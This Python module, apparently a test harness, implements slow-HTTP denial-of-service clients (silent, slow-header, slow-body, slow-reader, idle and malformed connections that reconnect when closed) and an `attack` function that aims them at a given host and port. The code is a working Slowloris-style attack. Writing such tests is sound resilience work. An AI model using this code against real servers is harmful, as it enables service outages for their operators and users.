"""Clients that take what they can: silent, slow, and deaf connections, which come back when they are closed.

Run ``attack`` in a process of its own, so that it does not slow down the people it is compared with.
"""

from __future__ import annotations

import asyncio
import socket
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from contextlib import asynccontextmanager, suppress
from itertools import cycle

_Kind = Callable[[socket.socket], Awaitable[None]]

# Seconds between two bytes, and before a closed connection comes back.
_DRIP = 1.0
_AGAIN = 0.5
_HEAD = b"Host: localhost\r\nUser-Agent: hostile\r\n"


async def _send(connection: socket.socket, data: bytes) -> None:
    await asyncio.get_running_loop().sock_sendall(connection, data)


async def _until_closed(connection: socket.socket) -> None:
    while await asyncio.get_running_loop().sock_recv(connection, 4096):
        pass


async def _drip(connection: socket.socket) -> None:
    closed = asyncio.ensure_future(_until_closed(connection))
    try:
        while not closed.done():
            await _send(connection, b"a")
            await asyncio.wait([closed], timeout=_DRIP)
    finally:
        closed.cancel()
        with suppress(OSError, asyncio.CancelledError):
            await closed


async def silent(connection: socket.socket) -> None:
    """Say nothing."""
    await _until_closed(connection)


async def slow_header(connection: socket.socket) -> None:
    """Send a header, a byte a second."""
    await _send(connection, b"GET /login HTTP/1.1\r\n" + _HEAD + b"Cookie: ")
    await _drip(connection)


async def slow_body(connection: socket.socket) -> None:
    """Send a body, a byte a second."""
    await _send(connection, b"POST /login HTTP/1.1\r\n" + _HEAD + b"Content-Length: 60000\r\n\r\n")
    await _drip(connection)


async def slow_reader(connection: socket.socket) -> None:
    """Ask for a hundred pages at once and read a byte a second."""
    await _send(connection, (b"GET /login HTTP/1.1\r\n" + _HEAD + b"\r\n") * 100)
    while await asyncio.get_running_loop().sock_recv(connection, 1):
        await asyncio.sleep(_DRIP)


async def idle(connection: socket.socket) -> None:
    """Ask for something small, then keep the connection."""
    await _send(connection, b"GET /healthz HTTP/1.1\r\n" + _HEAD + b"\r\n")
    await _until_closed(connection)


async def malformed(connection: socket.socket) -> None:
    """Send what is no HTTP."""
    await _send(connection, b"GET /login HTTP/1.1\r\nno colon\r\n\r\n")
    await _until_closed(connection)


KINDS: tuple[_Kind, ...] = (silent, slow_header, slow_body, slow_reader, idle, malformed)


async def _come_again(kind: _Kind, source: str, server: tuple[str, int], attempts: Counter[str]) -> None:
    loop = asyncio.get_running_loop()
    while True:
        attempts[kind.__name__] += 1
        with suppress(OSError), socket.socket() as connection:
            connection.setblocking(False)
            # So that the kernel does not take the pages of a client that reads nothing.
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            connection.bind((source, 0))
            await loop.sock_connect(connection, server)
            await kind(connection)
        await asyncio.sleep(_AGAIN)


@asynccontextmanager
async def hostile_clients(
    number: int, host: str, port: int, sources: Sequence[str] = ("127.0.0.1",)
) -> AsyncIterator[Counter[str]]:
    """Attack a server with a number of connections, a part of each kind, until the end of the ``async with`` block.

    Args:
        number: of connections at the same time.
        host, port: of the server.
        sources: the local addresses from which they come, in turn.

    Yields:
        How many connections were opened, by kind; the counter changes during the attack.
    """
    attempts: Counter[str] = Counter()
    kinds = [(kind, source) for source in sources for kind in KINDS]
    tasks = [
        asyncio.ensure_future(_come_again(kind, source, (host, port), attempts))
        for (kind, source), _ in zip(cycle(kinds), range(number), strict=False)
    ]
    try:
        yield attempts
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


def attack(number: int, host: str, port: int, sources: Sequence[str], seconds: float = 600.0) -> None:
    """Attack a server for some seconds, and print how many connections that took."""

    async def run() -> None:
        async with hostile_clients(number, host, port, sources) as attempts:
            await asyncio.sleep(seconds)
        print(f"connections of the attackers: {attempts.total()}, {attempts.total() / seconds:.0f} a second")

    asyncio.run(run())
